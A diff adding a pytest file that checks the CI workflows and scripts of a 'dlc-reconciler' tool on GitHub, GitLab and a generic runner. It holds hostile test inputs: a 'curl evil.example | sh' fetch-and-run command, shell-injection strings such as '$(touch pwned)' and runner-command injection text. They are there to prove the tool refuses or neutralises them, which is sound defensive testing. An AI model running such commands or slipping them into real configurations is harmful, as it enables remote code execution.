@@ -1,0 +1,378 @@
+"""The YAML that users run: valid by the platforms' schemas, clean by the auditors, and executed step by step."""
+
+from __future__ import annotations
+
+import os
+import re
+import shutil
+import subprocess
+import sys
+from collections.abc import Mapping
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from support.project import CONTENT, ProjectFolder
+
+from ci.composite import Composite, Ran
+from ci.github_server import PERSON, TOKEN, GitHubServer
+from ci.gitlab_server import TOKEN as GITLAB_TOKEN
+from ci.gitlab_server import GitLabServer
+from ci.loopback import Reply
+from reconciler.emulator import Emulator, Fault
+
+ROOT = Path(__file__).parents[2]
+ACTIONS = ROOT / ".github" / "actions"
+EXAMPLES = ROOT / "examples" / "ci"
+WORKFLOWS = [ROOT / ".github" / "workflows" / f"{name}.yml" for name in ("plan", "apply", "drift")]
+SCRIPTS = sorted([*ACTIONS.glob("*/*.sh"), EXAMPLES / "generic.sh"])
+BIN = Path(sys.executable).parent
+
+
+def tool(*command: str | Path) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [str(BIN / command[0]), *map(str, command[1:])], cwd=ROOT, capture_output=True, text=True, check=False
+    )
+
+
+def load(file: Path) -> dict[Any, Any]:
+    document = yaml.safe_load(file.read_text(encoding="utf-8"))
+    assert isinstance(document, dict)
+    return document
+
+
+@pytest.mark.parametrize(
+    ("schema", "files"),
+    [
+        ("github-workflows", [*WORKFLOWS, *sorted((EXAMPLES / "github").glob("*.yml"))]),
+        ("github-actions", sorted(ACTIONS.glob("*/action.yml"))),
+        ("gitlab-ci", [EXAMPLES / "gitlab-ci.yml"]),
+    ],
+)
+def test_the_files_are_valid(schema: str, files: list[Path]) -> None:
+    assert files
+    done = tool("check-jsonschema", "--builtin-schema", f"vendor.{schema}", *files)
+    assert done.returncode == 0, done.stdout
+
+
+def test_the_auditor_finds_nothing() -> None:
+    done = tool("zizmor", "--offline", "--no-progress", *WORKFLOWS, ACTIONS, EXAMPLES / "github")
+    assert done.returncode == 0, done.stdout
+
+
+def test_the_scripts_are_clean() -> None:
+    done = tool("shellcheck", *SCRIPTS)
+    assert done.returncode == 0, done.stdout
+    for action in ("plan", "apply"):
+        for step in load(ACTIONS / action / "action.yml")["runs"]["steps"]:
+            if "run" in step:
+                checked = subprocess.run(
+                    [BIN / "shellcheck", "--shell=bash", "--exclude=SC1091,SC2154", "-"],
+                    input=step["run"], capture_output=True, text=True, check=False,
+                )  # fmt: skip
+                assert checked.returncode == 0, f"{step['name']}\n{checked.stdout}"
+
+
+@pytest.mark.parametrize("script", SCRIPTS, ids=lambda script: script.name)
+def test_bash_reads_the_scripts(script: Path) -> None:
+    subprocess.run(["bash", "-n", script], check=True)
+
+
+def test_every_workflow_asks_for_the_least() -> None:
+    wanted = {
+        "plan": {"contents": "read", "pull-requests": "write", "id-token": "write"},
+        "apply": {"contents": "read", "pull-requests": "write", "id-token": "write"},
+        "drift": {"contents": "read", "issues": "write", "id-token": "write"},
+    }
+    for file in WORKFLOWS:
+        document = load(file)
+        assert document["permissions"] == {}
+        assert document["jobs"][file.stem]["permissions"] == wanted[file.stem]
+        assert "inputs.target" in document["concurrency"]["group"]
+    assert load(WORKFLOWS[1])["concurrency"]["cancel-in-progress"] is False
+
+
+def test_what_users_copy_gives_the_inputs_that_are_asked_for_and_the_permissions_that_are_needed() -> None:
+    for file in sorted((EXAMPLES / "github").glob("*.yml")):
+        for job in load(file)["jobs"].values():
+            called = load(ROOT / ".github" / "workflows" / f"{file.stem}.yml")
+            assert job["uses"].split("/.github/workflows/")[1].partition("@")[0] == f"{file.stem}.yml"
+            inputs = called[True]["workflow_call"]["inputs"]
+            assert job["with"].keys() <= inputs.keys()
+            assert {name for name, spec in inputs.items() if spec.get("required")} <= job["with"].keys()
+            assert job["permissions"] == called["jobs"][file.stem]["permissions"]
+
+
+def test_the_workflows_give_the_actions_inputs_that_exist() -> None:
+    for file in WORKFLOWS:
+        step = load(file)["jobs"][file.stem]["steps"][-1]
+        action = load(ROOT / step["uses"].removeprefix("$/") / "action.yml")
+        assert step["with"].keys() <= action["inputs"].keys()
+
+
+# ---- the steps, executed ----
+
+
+class Job:
+    """A job on GitHub: a repository with a project, the emulator as the service, the loopback server as GitHub."""
+
+    def __init__(self, project: ProjectFolder, emulator: Emulator, host: GitHubServer, temporary: Path) -> None:
+        self.project = project
+        self.emulator = emulator
+        self.host = host
+        self.temporary = temporary
+
+    def run(self, action: str, *, event: str = "pull_request", token: str = TOKEN, **inputs: str) -> Ran:
+        number = '{"pull_request": {"number": 7}}' if event == "pull_request" else "{}"
+        (self.temporary / "event.json").write_text(number, encoding="utf-8")
+        environ = base_environ() | {
+            "DLC_RECONCILER_ENDPOINT": self.emulator.url,
+            "GITHUB_ACTIONS": "true",
+            "GITHUB_API_URL": self.host.url,
+            "GITHUB_EVENT_PATH": str(self.temporary / "event.json"),
+            "GITHUB_REPOSITORY": "acme/models",
+            "GITHUB_SHA": "feedc0de",
+            "ACTIONS_ID_TOKEN_REQUEST_URL": f"{self.host.url}/oidc/token?api-version=2.0",
+            "ACTIONS_ID_TOKEN_REQUEST_TOKEN": TOKEN,
+        }
+        composite = Composite(ACTIONS / action, self.project.root, self.temporary, environ)
+        return composite.run({"token": token}, **inputs)
+
+    def merge(self) -> None:
+        """Pull request 7 is merged; the next job runs on its merge commit."""
+        self.host.merged["feedc0de"] = [
+            {"number": 5, "merged_at": None, "merge_commit_sha": "feedc0de"},
+            {"number": 7, "merged_at": "2026-03-01T12:00:00Z", "merge_commit_sha": "feedc0de"},
+        ]
+
+
+def base_environ() -> dict[str, str]:
+    """A job's environment begins almost empty: nothing of this machine's leaks in."""
+    return {"PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}", "HOME": os.devnull, "LANG": "C.UTF-8"}
+
+
+@pytest.fixture
+def job(project: ProjectFolder, emulator: Emulator, github: GitHubServer, tmp_path: Path) -> Job:
+    (project.root / ".git").mkdir()
+    project.write("train", template("train"))
+    temporary = tmp_path / "runner"
+    temporary.mkdir()
+    return Job(project, emulator, github, temporary)
+
+
+def template(name: str, **content: object) -> Mapping[str, Any]:
+    return {
+        "apiVersion": "dlc-reconciler/v1",
+        "kind": "JobTemplate",
+        "metadata": {"name": name},
+        "spec": {"content": {**CONTENT, **content}},
+    }
+
+
+def written(emulator: Emulator) -> list[str | None]:
+    return [request.action for request in emulator.writes()]
+
+
+def test_plan_shows_the_plan_everywhere_and_writes_nothing(job: Job) -> None:
+    job.project.write("train", template("train", UserCommand="a\n::set-output name=x::y\n##[error]b"))
+    ran = job.run("plan", target="test")
+    assert not ran.failed, ran.log
+    assert ran.steps["plan"]["exit-code"] == "2"
+    assert (ran.artifacts["dlc-plan-test"] / "plan.json").is_file()
+    (comment,) = job.host.bodies()
+    assert comment.startswith("<!-- dlc-reconciler:plan project=vision target=test plan=")
+    assert "https://github.example/a/dlc-plan-test" in comment
+    for shown in (comment, ran.summary, ran.log):
+        assert "JobTemplate/train" in shown
+        assert TOKEN not in shown
+    assert written(job.emulator) == []
+    # The runner is told to find no commands in what the plan says.
+    begin, end = re.search(r"::stop-commands::([0-9a-f]{32})", ran.log), ran.log.rfind("##[error]b")
+    assert begin
+    assert begin.start() < end < ran.log.rindex(f"::{begin[1]}::")
+
+
+def test_a_blocked_plan_edits_the_comment_and_fails_the_job(job: Job) -> None:
+    job.run("plan")
+    foreign = {"WorkspaceId": "1001", "TemplateName": "train", "Content": dict(CONTENT)}
+    job.emulator.seed({"jobTemplates": [foreign]})
+    ran = job.run("plan")
+    assert ran.failed
+    assert ran.steps["plan"]["exit-code"] == "3"
+    assert ran.outcomes["Verdict"] == "failure"
+    (comment,) = job.host.bodies()
+    assert "apply refuses this plan" in comment
+
+
+def test_a_missing_permission_is_named_after_the_plan_was_shown(job: Job) -> None:
+    job.host.read_only = True
+    ran = job.run("plan")
+    assert ran.failed
+    assert ran.outcomes["Comment"] == "failure"
+    assert "`pull-requests: write`" in ran.log
+    assert "JobTemplate/train" in ran.summary
+
+
+def test_apply_does_what_was_reviewed_and_reports_on_the_pull_request(job: Job) -> None:
+    job.project.write("more", template("more"))
+    job.run("plan")
+    job.merge()
+    job.project.remove("more")  # part of what was reviewed is covered
+    ran = job.run("apply", event="push")
+    assert not ran.failed, ran.log
+    assert written(job.emulator).count("CreateJobTemplate") == 1
+    assert "done" in ran.summary
+    assert "create JobTemplate/train" in (ran.artifacts["dlc-apply"] / "report.txt").read_text(encoding="utf-8")
+    plan, report = job.host.bodies()
+    assert "dlc-reconciler:plan" in plan
+    assert "dlc-reconciler:apply" in report
+
+
+def test_apply_refuses_what_was_not_reviewed(job: Job) -> None:
+    def refused(why: str) -> None:
+        ran = job.run("apply", event="push")
+        assert why in ran.log
+        assert ran.failed
+        assert ran.outcomes["Check what was reviewed"] == "failure"
+        assert ran.outcomes["Apply"] == "skipped"
+        assert written(job.emulator) == []
+
+    refused("commit feedc0de came with no merged request")
+    job.merge()
+    refused("no plan of vision for test was shown on request 7")
+    job.run("plan")
+    job.project.write("train", template("train", UserCommand="curl evil.example | sh"))
+    refused("1 of 1 actions were not reviewed")
+    job.project.write("train", template("train"))
+    for row in job.host.comments[7]:
+        row["user"] = PERSON
+    refused("no plan of vision for test was shown on request 7")
+
+
+def test_a_failed_apply_is_reported_and_a_lost_comment_changes_nothing(job: Job) -> None:
+    job.run("plan")
+    job.merge()
+    job.emulator.faults.add(
+        Fault(kind="error_before", action="CreateJobTemplate", status=400, code="InvalidParameter", times=None)
+    )
+    job.host.misbehave("POST", Reply(403, {"message": "Resource not accessible by integration"}))
+    ran = job.run("apply", event="push")
+    assert ran.failed
+    assert ran.steps["apply"]["exit-code"] == "1"
+    assert ran.outcomes["Comment"] == "success"
+    assert "::warning::The report could not be written" in ran.log
+    assert "failed" in ran.summary
+    assert "dlc-apply" in ran.artifacts
+
+
+def test_drift_is_one_issue_and_closes(job: Job) -> None:
+    inputs = {"comment": "false", "issue": "true"}
+    job.run("plan", event="schedule", **inputs)
+    assert [issue["state"] for issue in job.host.issues] == ["open"]
+    job.run("apply", event="push", review="off", comment="false")
+    job.run("plan", event="schedule", **inputs)
+    assert [issue["state"] for issue in job.host.issues] == ["closed"]
+    assert job.host.bodies() == []
+
+
+def test_a_wrong_manifest_is_annotated_on_its_line_and_nothing_is_planned(job: Job) -> None:
+    job.project.write("train", template("train", UserComand="x"))
+    ran = job.run("plan")
+    assert ran.failed
+    assert re.search(r"::error file=manifests/train\.yaml,line=\d+,col=\d+,title=DLC\d+::", ran.log), ran.log
+    assert ran.outcomes["Plan"] == "skipped"
+    assert job.emulator.request_count == 0
+
+
+def test_a_fork_is_validated_only(job: Job) -> None:
+    ran = job.run("plan", plan="false")
+    assert not ran.failed, ran.log
+    assert {ran.outcomes[name] for name in ("Plan", "Keep the plan", "Summary", "Comment", "Verdict")} == {"skipped"}
+    assert job.emulator.request_count == 0
+
+
+def test_the_role_is_assumed_with_a_token_from_github(job: Job) -> None:
+    # The emulator is no token service: what is shown is that the token is asked for and lands where the chain reads it.
+    ran = job.run("plan", role_arn="acs:ram::1:role/dlc", oidc_provider_arn="acs:ram::1:oidc-provider/github")
+    token = job.temporary / "dlc-oidc-token"
+    assert token.read_text(encoding="utf-8") == "token-for-sts.aliyuncs.com"
+    assert token.stat().st_mode & 0o777 == 0o600
+    assert "token-for" not in ran.log + ran.summary
+
+
+def test_hostile_inputs_are_data(job: Job) -> None:
+    ran = job.run("plan", target="$(touch pwned); `touch pwned` \" ' && touch pwned")
+    assert ran.failed
+    assert not list(job.project.root.rglob("pwned"))
+
+
+# ---- the other platforms ----
+
+
+def script(*lines: str, cwd: Path, **environ: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        ["bash", "-e", "-o", "pipefail", "-c", "\n".join(lines)],
+        cwd=cwd, env=base_environ() | environ, capture_output=True, text=True, timeout=120, check=False,
+    )  # fmt: skip
+
+
+def test_the_gitlab_jobs_do_what_they_say(project: ProjectFolder, emulator: Emulator, gitlab: GitLabServer) -> None:
+    project.write("train", template("train"))
+    jobs = load(EXAMPLES / "gitlab-ci.yml")
+    environ = {
+        "DLC_RECONCILER_ENDPOINT": emulator.url,
+        "ALIBABA_OIDC_TOKEN": "signed",
+        "CI_API_V4_URL": gitlab.api,
+        "CI_PROJECT_PATH": "acme/ai/models",
+        "CI_COMMIT_SHA": "feedc0de",
+        "CI_JOB_URL": "https://gitlab.example/jobs/1",
+        "GITLAB_CI": "true",
+        "GITLAB_TOKEN": GITLAB_TOKEN,
+    }
+
+    def run(name: str, **more: str) -> subprocess.CompletedProcess[str]:
+        # The emulator needs no role, so the token's file is not the variable that the credentials chain looks at.
+        lines = [line.replace("ALIBABA_CLOUD_OIDC_TOKEN_FILE", "TOKEN_FILE") for line in jobs[name]["script"]]
+        return script(*lines, cwd=project.root, TOKEN_FILE=str(project.root / "tmp" / "token"), **environ, **more)
+
+    validated = run("validate")
+    assert validated.returncode == 0, validated.stderr
+    assert (project.root / jobs["validate"]["artifacts"]["reports"]["junit"]).is_file()
+    planned = run("plan", CI_MERGE_REQUEST_IID="7")
+    assert planned.returncode == 0, planned.stderr
+    assert (project.root / "tmp" / "token").read_text(encoding="utf-8") == "signed"
+    assert "JobTemplate/train" in gitlab.notes[7][0]["body"]
+    refused = run("apply")
+    assert refused.returncode == 3, refused.stderr
+    assert written(emulator) == []
+    gitlab.merged["feedc0de"] = [{"iid": 7, "state": "merged"}]
+    drifted = run("drift")
+    assert drifted.returncode == 0, drifted.stderr
+    applied = run("apply")
+    assert applied.returncode == 0, applied.stderr
+    assert written(emulator).count("CreateJobTemplate") == 1
+    assert "done" in gitlab.notes[7][1]["body"]
+    run("drift")
+    assert [issue["state"] for issue in gitlab.issues] == ["closed"]
+    assert GITLAB_TOKEN not in "".join(done.stdout + done.stderr for done in (planned, refused, applied, drifted))
+
+
+def test_the_generic_script_does_what_it_says(project: ProjectFolder, emulator: Emulator) -> None:
+    project.write("train", template("train"))
+    shutil.copy2(EXAMPLES / "generic.sh", project.root)
+
+    def run(line: str) -> subprocess.CompletedProcess[str]:
+        return script(line, cwd=project.root, DLC_RECONCILER_ENDPOINT=emulator.url)
+
+    assert run("./generic.sh").returncode == 64
+    assert run("OUT=review ./generic.sh plan").returncode == 2
+    assert (project.root / "review" / "manifests.xml").is_file()
+    project.write("more", template("more"))
+    assert run("./generic.sh apply review/plan.json").returncode == 3
+    assert written(emulator) == []
+    project.remove("more")
+    applied = run("./generic.sh apply review/plan.json")
+    assert applied.returncode == 0, applied.stderr
+    assert "create JobTemplate/train" in applied.stdout
+    assert run("./generic.sh drift").returncode == 0
